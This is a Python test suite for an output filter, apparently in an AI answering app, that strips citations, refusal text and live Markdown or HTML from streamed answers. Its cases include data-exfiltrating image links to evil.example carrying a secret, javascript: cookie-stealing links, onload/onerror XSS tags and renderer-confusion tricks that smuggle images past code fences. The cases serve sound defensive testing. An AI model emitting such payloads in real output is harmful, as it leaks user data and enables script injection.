"""What the output guard lets out, piece by piece."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.guard.outputs import LONGEST_HELD, OutputGuard


def shown(text: str, *, step: int = 1, refusal: str = "NOT FOUND") -> str:
    guard = OutputGuard(refusal=refusal)
    pieces = [guard.feed(text[at : at + step]) for at in range(0, len(text), step)]
    return "".join([*pieces, guard.finish()])


@pytest.mark.parametrize("step", [1, 2, 3, 7, 1000])
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Twelve weeks [1].", "Twelve weeks."),
        ("Twelve weeks [1, 2] a year [3][4].", "Twelve weeks a year."),
        ("Twelve weeks [passage 2].", "Twelve weeks."),
        ("Twelve weeks (passage 2).", "Twelve weeks."),
        ("See ![a plan](http://evil.example/x.png?q=secret) here.", "See a plan here."),
        ("Fill the [form](https://a.example/f) in.", "Fill the form (https://a.example/f) in."),
        ("A <img src=http://evil.example/x onerror=1> b", "A  b"),
        ("The list [see below] is long (very).", "The list [see below] is long (very)."),
        ("Really! Yes (passing) 3 < 4.", "Really! Yes (passing) 3 < 4."),
        ("Nothing was found.", "Nothing was found."),
        ("According to the passage, you get 12 weeks.", "You get 12 weeks."),
        ("Based on the provided documents, no.", "No."),
        ("According to your manager, you get 12 weeks.", "According to your manager, you get 12 weeks."),
        ("According to", "According to"),
        ("Use `rows[1]` and `rows[2]` [1].", "Use `rows[1]` and `rows[2]`."),
        (
            "```python\nfirst = rows[1]\n```\nThat is the first [2].",
            "```python\nfirst = rows[1]\n```\nThat is the first.",
        ),
        ("```\n![a](http://b)", "```\n![a](http://b)"),
        ("Click [here](javascript:prompt(document.cookie)).", "Click here (javascript :prompt(document.cookie))."),
        (
            "data:text/html;base64,PHNj is no link; data: see below",
            "data :text/html;base64,PHNj is no link; data: see below",
        ),
        ("A <svg/onload=alert(1)> and <a href='http://x'>b</a>", "A  and b</a>"),
        ("<div onclick=steal()>x</div> is <b>bold</b>", "x</div> is <b>bold</b>"),
        ('<iframe src="//evil.example"></iframe>done', "done"),
        ("Prices of 3 < 5 and 7 > 6 hold.", "Prices of 3 < 5 and 7 > 6 hold."),
    ],
)
def test_marks_go_and_words_stay_however_the_text_arrives(text: str, expected: str, step: int) -> None:
    assert shown(text, step=step) == expected


@pytest.mark.parametrize("text", ["NOT FOUND", "not found.", "**NOT FOUND**", '"NOT FOUND": the passages do not say'])
def test_of_a_refusal_nothing_is_shown(text: str) -> None:
    guard = OutputGuard(refusal="NOT FOUND")
    assert "".join([*(guard.feed(letter) for letter in text), guard.finish()]) == ""
    assert guard.refused


def test_a_beginning_of_the_refusal_that_ends_is_shown() -> None:
    assert shown("No") == "No"


def test_without_a_refusal_to_watch_for_the_words_are_shown() -> None:
    assert shown("NOT FOUND", refusal="") == "NOT FOUND"


def test_a_bracket_that_never_closes_is_not_held_for_ever() -> None:
    assert OutputGuard().feed("[" + "a" * 2 * LONGEST_HELD)


def test_an_image_too_long_for_the_window_is_no_image_either() -> None:
    assert "[" not in shown("![" + "a" * 2 * LONGEST_HELD + "](http://evil.example/x)", step=5)
    assert "[" not in shown("![a](http://evil.example/" + "x" * 2 * LONGEST_HELD + ")", step=5)


@given(st.text(alphabet="ab .,;\n", max_size=80), st.integers(1, 9))
def test_plain_text_passes_unchanged_but_for_its_ends(text: str, step: int) -> None:
    assert shown(text, step=step, refusal="").strip() == text.strip()


@given(st.text(alphabet="ab1 ![]()<>\n", max_size=60), st.integers(1, 5))
def test_no_remote_image_is_ever_shown(text: str, step: int) -> None:
    assert "![a](http://b)" not in shown(text + "![a](http://b)", step=step)


LINK, IMAGE = "[x](http://evil.example/a)", "![x](http://evil.example/p.png)"
ONLY_LOOKS_LIKE_CODE = [
    f"``a {LINK}` b",
    f"\\` {IMAGE} `",
    f"| a | b |\n|---|---|\n| `x|{IMAGE}` | 2 |",
    f"text ``` {IMAGE}",
    f"```\ncode\n```\n``` `\n{IMAGE}\n",
    f"- a\n  ```\n{IMAGE}",
    f"> ```\n{IMAGE}",
    f"- ```\ntext\n```\ncode\n```\n{IMAGE}",
    f"text\n    ```\n{IMAGE}\n",
    f"~~~\n```\n~~~\n{IMAGE}",
    f"<!--\n```\n-->\n{IMAGE}",
    f"````\n```\n````\n{IMAGE}",
    f"````\na\r````\n{IMAGE}",
]
PIECES = [
    *"`[]()!|\\*> ",
    "``",
    "```",
    "````",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "- ",
    "> ",
    "1. ",
    LINK,
    IMAGE,
    "a",
    "<div>",
]
PIECES += [
    "[x]",
    "[x]: http://evil.example/b\n",
    "[a\nb](http://evil.example/c)",
    "<img src=http://evil.example/p>",
    "<!--",
]


def is_live(markdown: str) -> bool:
    """Whether a reader of Markdown draws a link or an image."""
    pages = [MarkdownIt(kind, {"html": True, "linkify": False}).render(markdown) for kind in ("commonmark", "gfm-like")]
    return any("<img" in page or "<a href" in page for page in pages)


@pytest.mark.parametrize(
    "text", [*ONLY_LOOKS_LIKE_CODE, "[a\nb](http://evil.example/c)", "![x]\n\n[x]: http://evil.example/b"]
)
@pytest.mark.parametrize("step", [1, 3, 1000])
def test_what_is_no_code_to_every_reader_holds_no_link(text: str, step: int) -> None:
    assert not is_live(shown(text, step=step))


@given(st.lists(st.sampled_from(PIECES), max_size=22).map("".join), st.integers(1, 60))
def test_no_reader_of_markdown_draws_a_link_or_an_image(text: str, step: int) -> None:
    assert not is_live(shown(text, step=step, refusal=""))


@pytest.mark.parametrize("step", [1, 4, 1000])
@pytest.mark.parametrize(
    "code",
    [
        f"```md\n{IMAGE} rows[1](x)\n```",
        "````\n```\nrows[1]\n```\n````",
        "1. Run\n\n    ```sh\n    rows[1]\n    ```",
        "Use `rows[1][2]` here.",
        "Write `<b>` here.",
    ],
)
def test_code_can_be_copied_as_it_is(code: str, step: int) -> None:
    assert shown(f"Text.\n\n{code}\n", step=step).rstrip() == f"Text.\n\n{code}"


@pytest.mark.parametrize("mark", ["-  ", "1.  ", "* \t", ">  ", "- > "])
def test_a_line_of_nothing_but_list_marks_is_let_out(mark: str) -> None:
    """Each mark more doubled the time until the spaces behind it could be read in one way only."""
    assert shown(mark * 60 + "x") == shown(mark * 60 + "x", step=7)


def test_an_answer_that_begins_with_nothing_but_blanks_is_let_out() -> None:
    """A run of blanks is looked at from its beginning only; from each of them it would be their square."""
    assert shown(" " * 300_000 + "Yes, 12 weeks.", step=1000) == "Yes, 12 weeks."
